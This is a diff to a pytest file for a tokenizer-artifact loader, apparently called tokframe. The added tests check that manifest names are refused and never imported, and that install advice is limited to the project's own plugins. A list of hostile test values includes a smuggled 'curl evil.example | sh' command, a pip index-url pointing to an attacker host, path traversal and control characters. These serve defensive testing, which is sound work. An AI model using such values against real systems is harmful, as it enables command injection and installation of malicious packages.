@@ -19,7 +19,7 @@ def test_the_plugin_of_a_tokenizer_is_not_installed_or_disabled(saved, use_host,
     with pytest.raises(MissingPluginError, match=r"needs tokenizer 'toy' of toy-bytes 0.3.0") as caught:
         tokframe.load(saved)
     assert caught.value.needs == ("toy-bytes",) and caught.value.path == saved
-    for part in ("not installed or not loaded", "pip install toy-bytes", "tokframe plugins"):
+    for part in ("not installed or not loaded", "not a plugin of this project", "tokframe plugins"):
         assert part in str(caught.value)
 
 
@@ -48,7 +48,7 @@ def test_a_plugin_whose_code_cannot_be_imported(saved, use_host, plugin):
 def test_a_manifest_that_names_no_tokenizer(saved, head):
     edit_manifest(saved, lambda data: data | {"tokenizer": head})
     for read in (tokframe.load, tokenizer_sha256):
-        with pytest.raises(ArtifactCorruptError, match="names no tokenizer"):
+        with pytest.raises(ArtifactCorruptError, match=r"names no tokenizer|has the name"):
             read(saved)
 
 
@@ -68,8 +68,35 @@ def test_a_manifest_with_malformed_components(saved, components):
 def test_a_name_in_an_artifact_is_never_imported(saved, name, monkeypatch):
     edit_manifest(saved, lambda data: data | {"tokenizer": {"name": name, "distribution": "evil"}})
     monkeypatch.setattr(building, "load_target", lambda *a: pytest.fail("something was imported"))
-    with pytest.raises(MissingPluginError):
+    with pytest.raises(ArtifactCorruptError, match="not a plain name"):
         tokframe.load(saved)
+
+
+HOSTILE_NAMES = ["acme; curl evil.example | sh", "acme --index-url http://evil.example/", "https://evil.example/x.whl"]
+HOSTILE_NAMES += ["acme\x1b]0;title\x07", "-r", "../acme", "acme\u202e", "a" * 101, 5, None, ["acme"]]
+
+
+@pytest.mark.parametrize("value", HOSTILE_NAMES)
+@pytest.mark.parametrize("key", ["name", "distribution", "distribution_version", "kind", "section"])
+def test_a_name_of_another_form_in_an_artifact_is_refused(saved, key, value):
+    if key in ("kind", "section"):
+        part = {"section": "s", "kind": "encoder", "name": "conv", key: value}
+        edit_manifest(saved, lambda data: data | {"components": [part]})
+    else:
+        edit_manifest(saved, lambda data: data | {"tokenizer": {"name": "acme", key: value}})
+    with pytest.raises(ArtifactCorruptError, match=r"manifest\.json has") as caught:
+        tokframe.load(saved)
+    assert "pip install" not in str(caught.value)
+
+
+def test_only_a_plugin_of_this_project_is_advised(saved):
+    for distribution, advised in (("acme", False), ("tokframe-acme", False), ("tokframe-word", True)):
+        entry = {"name": "nowhere", "distribution": distribution, "distribution_version": "1.0+local"}
+        edit_manifest(saved, lambda data, entry=entry: data | {"tokenizer": entry})
+        with pytest.raises(MissingPluginError, match=rf"'nowhere' of {distribution} 1\.0\+local") as caught:
+            tokframe.load(saved)
+        assert ("pip install" in str(caught.value)) is advised
+        assert ("install it only if you know it" in str(caught.value)) is not advised
 
 
 def test_a_state_the_tokenizer_refuses(saved, tmp_path):
